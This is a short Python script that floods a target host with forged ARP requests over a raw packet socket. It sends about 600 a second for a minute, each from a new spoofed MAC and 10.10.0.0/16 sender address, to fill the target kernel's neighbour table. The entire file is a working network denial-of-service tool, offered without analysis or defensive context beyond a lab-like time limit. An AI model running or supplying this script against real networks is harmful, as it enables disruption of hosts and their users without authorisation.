"""Fills a neighbour table: neighbours.py INTERFACE TARGET.

Asks by ARP for TARGET, some 600 times a second, each time as another sender of 10.10.0.0/16 whom the
kernel of TARGET takes down. Ends after a minute.
"""

import socket
import struct
import sys
import time

BURST = 10
PAUSE_S = 0.015
LIMIT_S = 60
ETHERNET, IPV4, REQUEST = 1, 0x0800, 1


def main():
    interface, target = sys.argv[1:]
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((interface, 0))
    tail = bytes(6) + socket.inet_aton(target)
    head = struct.pack("!HHBBH", ETHERNET, IPV4, 6, 4, REQUEST)
    number = 0
    end = time.monotonic() + LIMIT_S
    while time.monotonic() < end:
        for _ in range(BURST):
            number = number % 60_000 + 1
            mac = b"\x02\x09\x09\x00" + struct.pack("!H", number)
            sender = bytes([10, 10]) + struct.pack("!H", number + 256)
            arp = head + mac + sender + tail
            out.send(b"\xff" * 6 + mac + b"\x08\x06" + arp)
        time.sleep(PAUSE_S)


main()
